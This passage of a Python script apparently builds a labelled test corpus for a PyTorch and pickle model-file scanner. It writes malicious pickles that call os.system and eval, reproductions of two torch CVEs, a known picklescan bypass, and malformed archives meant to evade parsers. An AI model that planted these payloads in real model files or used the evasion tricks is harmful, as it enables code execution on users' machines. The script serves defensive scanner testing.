write("tar_legacy_evil.tar",
      tar_bytes([("sys_info", pkl(lit({}))), ("pickle", EVIL), ("storages", pkl(INT(0)) + pkl(lit([]))),
                 ("tensors", pkl(INT(0)))]),
      "dangerous", C_, "torch's pre-1.0 tar format", global_="os.system")
write("tar_member_evil.pt", tar_bytes([("archive/data.pkl", EVIL)]), "dangerous", C_, "a tar holding a pickle",
      global_="os.system")
write("junk_then_evil_zip.pt", b"JUNK" * 16 + torch_zip(EVIL), "dangerous", C_,
      "bytes before the first local header: zip readers still find the archive", global_="os.system")
write("evil_pickle_then_zip.pt", EVIL + torch_zip(SD), "dangerous", C_, "a pickle that is also a zip",
      global_="os.system")
write("zip_after_stop_frame.pt", torch_zip(SD_P4 + EVIL), "dangerous", C_, "a pickle after the STOP of data.pkl",
      reason="after the STOP")
write("legacy_after_stop.pt", legacy_file(pkl(INT(1)) + EVIL), "dangerous", C_,
      "a pickle after the STOP of the legacy object pickle (torch reads it as the storage keys)",
      global_="os.system")
_g = b"cos\nsystem\n"
write("frame_short.pkl", PROTO4 + b"\x95" + struct.pack("<Q", len(_g) + 7) + _g + U("id") + b"\x85R" + STOP,
      "dangerous", C_, "FRAME shorter than the opcodes after it (both unpicklers read on)", global_="os.system")
write("frame_past_end.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 20) + _g + U("id") + b"\x85R" + STOP,
      "dangerous", C_, "FRAME longer than the file (pickle.py reads what is there)", global_="os.system")
write("frame_splits_opcode.pkl",
      PROTO4 + b"\x95" + struct.pack("<Q", 5) + _g + U("id") + b"\x85R" + STOP, "dangerous", C_,
      "a FRAME ends inside a GLOBAL's text (CPython's C unpickler reads on)", global_="system")
write("frame_zero_then_evil.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 0) + EVIL[2:], "dangerous", C_,
      "an empty FRAME", global_="os.system")

# ==============================================================================================
# 4. CVE reproductions against torch's own weights-only unpickler.

V_ = "cve"
write("cve-2026-24747_setitems_on_tensor.pt",
      torch_zip(pkl(tensor("0", [2]) + MARK + INT(0) + lit(1.0) + SETITEMS)), "not_safe", V_,
      "CVE-2026-24747 / GHSA-63cw-57p8-fm3p")
write("cve-2026-24747_setitem_on_tensor.pt", torch_zip(pkl(tensor("0", [2]) + INT(0) + lit(1.0) + b"s")),
      "not_safe", V_, "CVE-2026-24747")
write("cve-2026-24747_setitems_on_list.pt",
      torch_zip(pkl(EMPTY_LIST + MARK + INT(0) + INT(1) + SETITEMS)), "not_safe", V_, "CVE-2026-24747")
_st = tup("storage", G("torch", "FloatStorage"), "0", "cpu", 2) + BINPERSID
write("tensor_build_set_out_of_bounds.pt",
      torch_zip(pkl(tensor("0", [2]) + tup(_st, 0, (1 << 20,), (1,)) + BUILD)), "not_safe", V_,
      "CVE-2026-24747: BUILD on a tensor calls set_ with the state")
write("tensor_build_set_in_bounds.pt",
      torch_zip(pkl(tensor("0", [2]) + tup(_st, 0, (2,), (1,)) + BUILD)), "safe", V_,
      "BUILD on a tensor (legacy set_ route): torch accepts it when the view fits the storage")
write("cve-2025-32434_torchscript.pt",
      zip_bytes([("archive/data.pkl", pkl(EMPTY_TUPLE)), ("archive/constants.pkl", pkl(EMPTY_TUPLE)),
                 ("archive/code/__torch__.py",
                  b"class M(Module):\n  def forward(self):\n    return torch.save(torch.zeros([1]), '/tmp/pwned')\n"),
                 ("archive/version", b"3\n")]), "not_safe", V_,
      "CVE-2025-32434 (torch.load routed TorchScript archives to torch.jit.load)", reason="TorchScript")
write("cve-2025-32434_torchscript_no_prefix.pt",
      zip_bytes([("m/constants.pkl", pkl(EMPTY_TUPLE)), ("m/data.pkl", SD), ("m/data/0", STORAGE0),
                 ("m/version", b"3\n")]), "not_safe", V_, "CVE-2025-32434", reason="TorchScript")
write("magic_number_from_eval.pt",
      reduce_pickle("builtins", "eval", "0x1950A86A20F9469CFC6C") + pkl(INT(1001)) + pkl(lit({})) + pkl(lit([]))
      + EVIL + pkl(NONE), "dangerous", V_, "picklescan pytorch_magic_bypass", global_="eval")

# ==============================================================================================
# 5. Broken files: never safe.

B_ = "broken"
write("empty.pt", b"", "not_safe", B_, error=True)
rnd, seed = b"", b"torchpeek"
while len(rnd) < 4096:
    seed = hashlib.sha256(seed).digest()
    rnd += seed
write("random.bin", b"\x00" + rnd[1:], "not_safe", B_, error=True)
write("png_named.pt", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17, "not_safe", B_,
      "picklescan bad_pytorch.pt (Owl_Mage_no_background.pt)", error=True)
write("unrelated_zip.pt", zip_bytes([("readme.txt", b"hello\n")]), "not_safe", B_, error=True)
write("unrelated_tar.pt", tar_bytes([("readme.txt", b"hello\n")]), "not_safe", B_, error=True)
write("sevenzip_magic.pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, "not_safe", B_, error=True)
_hdr = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
_hdr += b" " * (64 - 10 - len(_hdr) - 1) + b"\n"
NPY = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(_hdr)) + _hdr + STORAGE0
write("array.npy", NPY, "not_safe", B_, error=True)
write("arrays.npz", zip_bytes([("a.npy", NPY)]), "not_safe", B_, error=True)
write("plain_dict.pkl", pkl(lit({"epoch": 3, "loss": 0.25})), "not_safe", B_,
      "torch refuses: Invalid magic number", error=True)
_leg = legacy_file(LEGACY_SD)
write("truncated_legacy.pt", _leg[:len(LEGACY_HEAD) + 40], "not_safe", B_, error=True)
_z = torch_zip(SD)
write("truncated_zip.pt", _z[:len(_z) // 2], "not_safe", B_, error=True)
write("memo_unset.pt", torch_zip(pkl(b"h\x05")), "not_safe", B_, error=True)
write("long4_past_end.pt", torch_zip(PROTO2 + b"\x8b" + struct.pack("<I", 1000) + b"\x01\x02"), "not_safe", B_,
      error=True)
write("binbytes8_past_end.pt", torch_zip(PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"abc"), "not_safe", B_,
      error=True)
write("binunicode_past_end.pt", torch_zip(PROTO2 + b"X" + struct.pack("<I", 1000) + b"abc"), "not_safe", B_,
      error=True)
write("binunicode_4gb.pt", torch_zip(PROTO2 + b"X" + struct.pack("<I", 0xFFFFFFFF) + b"abc"), "not_safe", B_,
      "oversized declared length", error=True)
write("binunicode_4gb.pkl", PROTO2 + b"X" + struct.pack("<I", 0xFFFFFFFF) + b"abc", "not_safe", B_,
      "oversized declared length", error=True)
write("storage_short.pt", torch_zip(SD, storages=[("0", STORAGE0[:4])]), "not_safe", B_,
      "storage shorter than numel*itemsize", error=True)
write("storage_missing.pt", torch_zip(SD, storages=[]), "not_safe", B_, error=True)
write("legacy_storage_short.pt", legacy_file(LEGACY_SD, storage=STORAGE0[:4]), "not_safe", B_, error=True)
write("view_past_end.pt", torch_zip(pkl(ordered_dict([("w", tensor("0", [2], offset=1, numel=2))]))), "not_safe",
      B_, error=True)
write("negative_dim.pt", torch_zip(pkl(ordered_dict([("w", tensor("0", [-1], stride=[1], numel=2))]))), "not_safe",
      B_, error=True)
write("stride_overflow.pt",
      torch_zip(pkl(ordered_dict([("w", tensor("0", [1 << 62, 4], stride=[4, 1], numel=2))]))), "not_safe", B_,
      "shape*stride overflows int64", error=True)
write("zip_declared_4gb.pt",
      patch_zip(torch_zip(SD), "archive/data.pkl", local={"csize": 0xFFFFFFF0, "usize": 0xFFFFFFF0},
                central={"csize": 0xFFFFFFF0, "usize": 0xFFFFFFF0}), "not_safe", B_, "oversized declared size",
      error=True)
write("tuple_without_mark.pt", torch_zip(pkl(INT(1) + INT(2) + TUPLE)), "not_safe", B_, error=True)
write("marks_only.pt", torch_zip(PROTO2 + MARK * 100_000 + STOP), "not_safe", B_, "100k MARKs, nothing to return",
      error=True)
# Opcodes torch's weights-only unpickler refuses though pickle reads them: the files load with
# weights_only=False, so they are not errors.
for name, ops in [
    ("dup_pop", None),
    ("pop_mark", None),
    ("list", MARK + INT(1) + b"l"),
    ("dict", MARK + U("a") + INT(1) + b"d"),
    ("put_get", b"Vabc\np7\n0g7\n"),
    ("int", b"I42\n"),
    ("string", b"S'abc'\n"),
    ("unicode", b"Vabc\n"),
    ("binstring", b"T" + struct.pack("<I", 3) + b"abc"),
    ("memoize", SU("abc") + MEMOIZE),
    ("short_binbytes", b"C\x03abc"),
]:
    if name == "dup_pop":
        data = PROTO2 + NONE + b"2" + b"0" + b"0" + sd_body() + STOP
    elif name == "pop_mark":
        data = PROTO2 + MARK + NONE + b"1" + sd_body() + STOP
    else:
        data = pkl(sd_body([("x", Op(ops))]), PROTO4 if name == "memoize" else PROTO2)
    write(f"opcode_{name}.pt", torch_zip(data), "not_safe", B_, "an opcode torch's weights-only unpickler refuses")

# ==============================================================================================
# 6. Clean controls: what torch 2.15 accepts with weights_only=True.

K_ = "control"
write("ctl_state_dict.pt", torch_zip(SD), "safe", K_)
write("ctl_legacy.pt", legacy_file(LEGACY_SD), "safe", K_)
write("ctl_empty_set.pt", torch_zip(pkl(sd_body([("s", EMPTY_SET), ("t", call("builtins", "set", [1, 2]))]))),
      "safe", K_, "EMPTY_SET is read by torch's weights-only unpickler")
write("ctl_py2_builtin_set.pt", torch_zip(pkl(sd_body([("s", call("__builtin__", "set", [1]))]))), "safe", K_,
      "__builtin__ maps to builtins (pickle's python 2 names)")
write("ctl_codecs_bytes.pt", torch_zip(pkl(sd_body([("b", call("_codecs", "encode", "abc", "latin1"))]))), "safe",
      K_, "how protocol 2 writes bytes")
write("ctl_misc_allowed.pt",
      torch_zip(pkl(sd_body([("c", call("collections", "Counter", {"a": 1})), ("size", call("torch", "Size", [2, 3])),
                             ("dev", call("torch", "device", "cpu")), ("z", call("builtins", "complex", 1.0, 2.0)),
                             ("n", None), ("f", 0.5), ("big", 1 << 70), ("neg", -5)]))), "safe", K_)
write("ctl_parameter.pt",
      torch_zip(pkl(ordered_dict([("p", call("torch._utils", "_rebuild_parameter", tensor("0", [2]), True,
                                             Op(G("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE)))]))),
      "safe", K_)
write("ctl_modern_records.pt",
      torch_zip(pkl(ordered_dict([("w", tensor("0", [2])), ("v", tensor("1", [1, 2]))])),
                storages=[("0", STORAGE0), ("1", STORAGE0)], prefix="model_v1",
                records=[("model_v1/.format_version", b"1"), ("model_v1/.storage_alignment", b"64")]), "safe", K_)
write("ctl_shared_storage_view.pt",
      torch_zip(pkl(ordered_dict([("a", tensor("0", [1], offset=1, numel=2)), ("b", tensor("0", [2]))]))), "safe",
      K_, "two tensors on one storage, one a view at an offset")
_hdr = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
_hdr += b" " * (-len(_hdr) % 8)
write("ctl_tiny.safetensors", struct.pack("<Q", len(_hdr)) + _hdr + STORAGE0, "safe", K_)
write("ctl_deep_lists.pt", torch_zip(PROTO2 + EMPTY_LIST * 100_000 + b"a" * 99_999 + STOP), "safe", K_,
      "100k nested lists")
write("ctl_marks_then_dict.pt", torch_zip(PROTO2 + MARK * 100_000 + EMPTY_DICT + STOP), "safe", K_,
      "100k MARKs never closed, then a dict: STOP returns the dict")

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(EXPECTED, f, indent=1, sort_keys=True)
print(f"{len(EXPECTED)} files in {OUT}", file=sys.stderr)
